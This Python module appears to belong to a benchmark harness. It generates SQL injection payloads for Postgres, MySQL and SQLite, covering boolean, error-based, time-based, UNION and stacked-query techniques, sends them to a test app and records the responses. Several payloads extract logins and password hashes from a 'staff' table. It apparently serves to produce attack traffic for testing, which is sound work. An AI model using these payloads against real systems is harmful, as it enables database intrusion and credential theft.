"""A small prober, for where sqlmap is not installed: one round of each technique."""

from collections.abc import Iterator
from random import Random

from bench.campaigns.app import App
from bench.campaigns.attacks import Recorder, Run, honest_request
from bench.campaigns.dialect import Dialect
from bench.campaigns.records import Record

MAX_COLUMNS = 7
SLEEP = {
    "postgres": "(SELECT 7 FROM pg_sleep(0.05))",
    "mysql": "SLEEP(0.05)",
    "sqlite": "LIKE('ABCDEFG', UPPER(HEX(RANDOMBLOB(1000000))))",
}
RAISE = {
    "postgres": "CAST((SELECT login FROM staff LIMIT 1) AS integer)",
    "mysql": "EXTRACTVALUE(1, CONCAT(0x7e, (SELECT login FROM staff LIMIT 1)))",
    "sqlite": "json((SELECT login FROM staff LIMIT 1))",
}


def payloads(dialect: Dialect, value: str, random: Random) -> Iterator[tuple[str, str]]:
    """Yield a technique's letter and a payload that continues the honest value."""
    for close, reopen in (("", ""), ("'", " AND '1'='1"), ("%'", " AND '1%'='1")):
        number = random.randint(1000, 9999)
        yield "B", f"{value}{close or chr(34)}"
        for right in (number, number + 1):
            yield "B", f"{value}{close} AND {number}={right}{reopen}"
        length = f"(SELECT length(password_hash) FROM staff WHERE id = {random.randint(1, 12)})"
        yield "B", f"{value}{close} AND {length}>{random.randint(8, 40)}{reopen}"
        yield "E", f"{value}{close} AND {number}={RAISE[dialect.name]}{reopen}"
        yield "T", f"{value}{close} AND {number}={SLEEP[dialect.name]}{reopen}"
        for columns in range(1, MAX_COLUMNS + 1):
            nulls = ", ".join(["NULL"] * columns)
            yield "U", f"{value}{close} UNION ALL SELECT {nulls}-- -"
        yield "U", f"{value}{close} UNION SELECT id, login, password_hash FROM staff-- -"
        yield "S", f"{value}{close}; SELECT {SLEEP[dialect.name]}-- -"
        yield "Q", f"{value}{close} OR (SELECT count(*) FROM staff)>0{reopen}"
    yield "B", f"{value.replace('0', '1')}"  # another value: inert


def attack(app: App, run: Run, random: Random) -> list[Record]:
    """Send every payload once."""
    base = honest_request(app, run, random)
    recorder = Recorder(app, run, base, "stmt_probe", "prober of bench.campaigns")
    for technique, payload in payloads(app.dialect, base[run.field], random):
        if technique in run.technique:
            recorder(app.call(run.tid, {**base, run.field: payload}))
            recorder.records[-1]["technique"] = technique
    return recorder.records
